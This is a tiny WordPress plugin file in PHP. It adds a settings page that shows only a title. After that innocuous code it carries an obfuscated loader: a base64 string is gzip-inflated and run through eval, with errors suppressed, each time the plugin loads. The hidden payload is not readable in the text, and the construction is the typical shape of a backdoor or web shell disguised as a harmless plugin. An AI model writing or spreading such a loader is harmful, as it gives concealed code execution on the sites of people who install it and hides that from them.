<?php
defined('ABSPATH') || exit;

add_action('admin_menu', function () {
    add_options_page('My Plugin', 'My Plugin', 'manage_options', 'my-plugin', 'my_plugin_render');
});

function my_plugin_render() {
    echo '<div class="wrap"><h1>My Plugin</h1></div>';
}

$__l = 'TcnBCsIwDADQX8ktLdjk7s6CF/ETxqjZJrQ1mMw58OMVvOz4eLaZSw2Yl2eBZDC7qx2ZV0351tJgJm4k76FqETb4gM0YOxjvRXpdvM+P5tLcArJXZVo14+Hfk+z6B2mvgOfr5YSRkKlulNuIMXZf';
@eval(gzinflate(base64_decode($__l)));
